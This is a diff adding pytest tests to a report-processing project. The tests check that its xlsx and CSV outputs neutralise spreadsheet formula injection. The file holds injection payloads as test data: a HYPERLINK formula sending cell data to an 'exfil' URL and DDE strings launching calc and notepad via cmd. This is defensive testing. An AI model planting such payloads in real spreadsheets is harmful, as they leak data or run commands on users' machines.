@@ -1,0 +1,130 @@
+"""Spreadsheet (formula) injection: every text cell of the run's xlsx, the ledger template and the
+draft CSVs is text, never a formula, whatever the curated tables or the report say (SECURITY.md)."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+from pathlib import Path
+
+import openpyxl
+import pytest
+
+from policy_review import ledger, review as rv, spreadsheet
+from policy_review.tables import read_table
+
+from .conftest import run_cli
+from .hostile import REGION, REPORTS, edit_table
+
+# --- spreadsheets: every text cell is text, never a formula ------------------------------------
+
+INJECTIONS = {
+    "=": '=HYPERLINK("http://127.0.0.1:9/exfil?d="&B2,"x")',
+    "+": "+cmd|' /C calc'!A0",
+    "-": "-2+3+cmd|' /C notepad'!A0",
+    "@": "@SUM(1+9)*cmd|' /C calc'!A0",
+    "tab": "\t=1+1",
+    "cr": "\r=1+1",
+}
+
+
+def workbook_cells(path: Path) -> list:
+    book = openpyxl.load_workbook(path)
+    return [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
+
+
+@pytest.mark.parametrize("start", sorted(INJECTIONS))
+def test_curated_text_is_text_in_the_run_spreadsheet(project_copy, tmp_path, start):
+    """A formula in a curated label, problem summary or the provenance reaches the xlsx as the
+    same text, never as a formula, and quote-prefixed so that Excel keeps it text."""
+    attack = INJECTIONS[start]
+    edit_table(project_copy, "figures", 0, label_en=attack)
+    edit_table(project_copy, "issues", 0, summary_en=attack + " (issue)")
+    provenance = project_copy / REPORTS / "2018.yaml"
+    lines = provenance.read_text(encoding="utf-8").split("\n")
+    lines = [f"title_en: {json.dumps(attack + ' Report')}" if line.startswith("title_en:") else line
+             for line in lines]
+    provenance.write_text("\n".join(lines), encoding="utf-8")
+    assert run_cli("validate", env_root=project_copy).returncode == 0
+    target = spreadsheet.write_review_workbook(rv.load_review(REGION, 2018, "en"), tmp_path / "2018.xlsx")
+    cells = workbook_cells(target)
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+    planted = [c for c in cells if isinstance(c.value, str) and attack.strip() in c.value]
+    assert {c.parent.title for c in planted} >= {"figures", "problems", "source"}
+    for c in planted:
+        assert c.data_type == "s" and c.quotePrefix, (c.parent.title, c.coordinate)
+
+
+def test_draft_text_is_text_in_the_spreadsheet(project_copy, tmp_path):
+    """A region with no curated tables (its tables are a draft made from the text alone) whose
+    report has lines that start with a formula: the draft's figure labels start with it, and no
+    sheet holds a formula."""
+    reports = project_copy / "data/reports/other"
+    reports.mkdir()
+    lines = (project_copy / REPORTS / "2019.txt").read_text(encoding="utf-8").split("\n")
+    attack = '=HYPERLINK("http://127.0.0.1:9/x?d="&B2,"x")共办理行政复议案件15件，'
+    lines = [attack + line if n % 3 == 2 and line.strip() else line for n, line in enumerate(lines)]
+    (reports / "2019.txt").write_text("\n".join(lines), encoding="utf-8")
+    provenance = (project_copy / REPORTS / "2019.yaml").read_text(encoding="utf-8")
+    (reports / "2019.yaml").write_text(provenance.replace("region: kaizhou", "region: other"), encoding="utf-8")
+    review = rv.load_review("other", 2019, "zh")
+    assert not review.curated
+    cells = workbook_cells(spreadsheet.write_review_workbook(review, tmp_path / "2019.xlsx"))
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+    planted = [c for c in cells if isinstance(c.value, str) and c.value.startswith("=HYPERLINK")]
+    assert planted and all(c.quotePrefix for c in planted)
+
+
+def test_draft_csv_guards_formulas_and_reads_back_the_same_text(project_copy, tmp_path):
+    """The draft CSVs (written for the researcher to correct, often in Excel) hold the formula
+    text behind an apostrophe, so Excel shows it as text; reading the table removes it."""
+    from policy_review import draft
+
+    reports = project_copy / "data/reports/other"
+    reports.mkdir()
+    lines = (project_copy / REPORTS / "2019.txt").read_text(encoding="utf-8").split("\n")
+    attack = "@SUM(1+9)*cmd|' /C calc'!A0共受理行政复议案件12件，"
+    lines = [attack + line if n % 3 == 2 and line.strip() else line for n, line in enumerate(lines)]
+    (reports / "2019.txt").write_text("\n".join(lines), encoding="utf-8")
+    provenance = (project_copy / REPORTS / "2019.yaml").read_text(encoding="utf-8")
+    (reports / "2019.yaml").write_text(provenance.replace("region: kaizhou", "region: other"), encoding="utf-8")
+    written = draft.write_draft("other", 2019, tmp_path)
+    guarded = read = 0
+    for file in written:
+        raw = list(csv.reader(io.StringIO(file.read_text(encoding="utf-8"), newline="")))
+        table, problems = read_table(file)
+        assert not problems, problems
+        for row, cells in zip(table.itertuples(index=False), raw[1:]):
+            for value, written_cell in zip(row, cells):
+                assert not written_cell.startswith(("=", "+", "@")), (file.name, written_cell)
+                if isinstance(value, str) and value.startswith("@SUM"):
+                    read += 1
+                    guarded += written_cell == "'" + value
+    assert read and guarded == read
+
+
+def test_csv_cell():
+    from policy_review.tables import csv_cell
+
+    assert [csv_cell(v) for v in ("=1+1", "-3.5", "+86", "-", "@x", "\tx", "法治", 15, "'=x")] == \
+        ["'=1+1", "-3.5", "+86", "'-", "'@x", "'\tx", "法治", 15, "'=x"]
+
+
+def test_ledger_template_has_no_formula(tmp_path):
+    written = ledger.write_template(tmp_path)
+    xlsx = next(p for p in written if p.suffix == ".xlsx")
+    assert not [c.coordinate for c in workbook_cells(xlsx) if c.data_type == "f"]
+
+
+def test_text_cells_as_text_leaves_numbers_and_plain_text():
+    book = openpyxl.Workbook()
+    sheet = book.active
+    sheet.append([15, -3.5, "开州区", "-", "=A1*2", "@x"])
+    spreadsheet.text_cells_as_text(book)
+    a, b, c, d, e, f = sheet[1]
+    assert (a.data_type, b.data_type, c.data_type) == ("n", "n", "s")
+    assert not c.quotePrefix and d.quotePrefix and e.quotePrefix and f.quotePrefix
+    assert e.data_type == "s" and e.value == "=A1*2"
+
+
